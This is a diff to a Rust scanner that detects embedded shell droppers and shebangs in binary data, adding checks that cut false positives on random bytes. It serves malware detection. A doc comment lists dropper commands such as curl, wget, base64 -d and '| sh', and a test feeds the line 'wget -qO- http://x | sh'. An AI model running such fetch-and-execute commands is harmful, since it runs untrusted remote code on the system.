@@ -969,8 +969,28 @@ fn macho_raw(window: &[u8], at: usize, bits: usize, little: bool, cpu: &str, fil
     Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::MachOHeader, detail)
 }
 
+fn is_path_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+')
+}
+
+fn is_blank_or_end(b: u8) -> bool {
+    matches!(b, b' ' | b'\t') || is_line_end(b)
+}
+
+/// `#!/path` or `#! /path`: an interpreter path of at least two more path
+/// characters after the `/`, then a blank or the line's end (random bytes
+/// hold `#!/` every 16 MiB; they rarely hold a path after it).
 fn shebang_at(window: &[u8], at: usize) -> Option<Raw> {
-    if !(bytes_at(window, at, b"#!/") || bytes_at(window, at, b"#! /")) {
+    let path = if bytes_at(window, at, b"#!/") {
+        at + 2
+    } else if bytes_at(window, at, b"#! /") {
+        at + 3
+    } else {
+        return None;
+    };
+    let rest = window.get(path + 1..)?;
+    let len = rest.iter().take(128).take_while(|&&b| is_path_byte(b)).count();
+    if len < 2 || !rest.get(len).is_none_or(|&b| is_blank_or_end(b)) {
         return None;
     }
     let end = line_end(window, at, EXCERPT_MAX);
@@ -1061,7 +1081,7 @@ fn keywords_at(window: &[u8], at: usize, first: u8, raw: &mut Vec<Raw>) {
             continue;
         }
         let end = at + keyword.text.len();
-        if keyword.boundary_after && !boundary_after(window, end) {
+        if (keyword.boundary_after && !boundary_after(window, end)) || !in_text(window, at, end) {
             continue;
         }
         let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
@@ -1070,7 +1090,8 @@ fn keywords_at(window: &[u8], at: usize, first: u8, raw: &mut Vec<Raw>) {
     }
 }
 
-/// `|`, optional blanks, then `sh` or `bash` as a whole word.
+/// `|`, optional blanks, then `sh` or `bash` ending the command (a blank,
+/// `;`, `)`, `&`, `|`, a quote or the line's end follows), in text.
 fn pipe_at(window: &[u8], at: usize) -> Option<Raw> {
     let rest = window.get(at.checked_add(1)?..)?;
     let blanks = rest.iter().take(8).take_while(|&&b| b == b' ' || b == b'\t').count();
@@ -1083,12 +1104,39 @@ fn pipe_at(window: &[u8], at: usize) -> Option<Raw> {
         return None;
     };
     let end = at + 1 + blanks + len;
-    if !boundary_after(window, end) {
+    if !window.get(end).is_none_or(|&b| is_blank_or_end(b) || matches!(b, b';' | b')' | b'&' | b'|' | b'"' | b'\''))
+        || !in_text(window, at, end)
+    {
         return None;
     }
     let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
     r.keywords.push(name);
     Some(r)
+}
+
+fn is_text_byte(b: u8) -> bool {
+    b.is_ascii_graphic() || matches!(b, b' ' | b'\t')
+}
+
+/// Whether a shell keyword at `start..end` sits in text: the byte before
+/// it (if any) is text, and at least 3 in 4 of the up to 16 bytes on each
+/// side, up to the line's ends, are printable ASCII or blanks. Random
+/// bytes hold `|sh` every 16 MiB; they rarely hold it inside text.
+fn in_text(window: &[u8], start: usize, end: usize) -> bool {
+    const CONTEXT: usize = 16;
+    if start > 0 && !window.get(start - 1).is_some_and(|&b| is_text_byte(b) || is_line_end(b)) {
+        return false;
+    }
+    let before = window.get(start.saturating_sub(CONTEXT)..start).unwrap_or_default();
+    let before = before.iter().rev().take_while(|&&b| !is_line_end(b));
+    let after = window.get(end..end.saturating_add(CONTEXT).min(window.len())).unwrap_or_default();
+    let after = after.iter().take_while(|&&b| !is_line_end(b));
+    let (mut text, mut all) = (0usize, 0usize);
+    for &b in before.chain(after) {
+        all += 1;
+        text += usize::from(is_text_byte(b));
+    }
+    text * 4 >= all * 3
 }
 
 /// Whether two shell findings sit on one line, close together.
@@ -1104,7 +1152,8 @@ fn same_line(window: &[u8], end: usize, start: usize) -> bool {
 /// markers, and shell commands droppers use (`eval `, `exec `, `| sh`,
 /// `| bash`, `/bin/sh`, `/bin/bash`, `curl `, `wget `, `base64 -d`,
 /// `chmod +x`, `export `, `head -c`, `tail -c`, `tr "`, `xz -d`, `sed `),
-/// each at a word boundary (`evaluate` and `exec_prefix` do not count).
+/// each at a word boundary (`evaluate` and `exec_prefix` do not count) and
+/// surrounded by text rather than random bytes.
 ///
 /// Offsets are absolute (`window_offset` plus the position). Overlapping
 /// script findings are merged (a shebang absorbs its `/bin/sh`), and the
@@ -1500,6 +1549,23 @@ mod tests {
         assert_eq!(hits[0].kind, FindingKind::Shebang);
         assert_eq!((hits[0].offset, hits[0].len), (2, 12));
         assert_eq!(hits[0].detail, "#!/bin/sh -e");
+    }
+
+    #[test]
+    fn random_bytes_are_not_scripts() {
+        // Both were found in 64 MiB of random data before the checks for an
+        // interpreter path and for surrounding text.
+        assert!(scan_payloads(b"\x01#!/\x86\xb4l\x8d\x01\x9e]\xfb", 0).is_empty());
+        assert!(scan_payloads(b"\x9c\xac\x03[\x10|sh\xc9\x07q\\\x0b\xf2\xf8", 0).is_empty());
+        assert!(scan_payloads(b"Z\xfd\x90^\xc1\x12\xa2\xaa\xf4ZJ1\xcb|sh\x8c\x8aWDwb", 0).is_empty());
+        // Real ones still count, also at the window's end.
+        for script in [&b"#! /usr/bin/env python3\n"[..], b"#!/bin/sh", b"\xff\xfe\0#!/bin/bash -x\n"] {
+            let hits = scan_payloads(script, 0);
+            assert_eq!(hits.iter().map(|f| f.kind).collect::<Vec<_>>(), [FindingKind::Shebang], "{script:?}");
+        }
+        let hits = scan_payloads(b"\xff\xfe\0wget -qO- http://x | sh\0\x8c", 0);
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert_eq!(hits[0].detail, "wget, | sh: wget -qO- http://x | sh");
     }
 
     #[test]
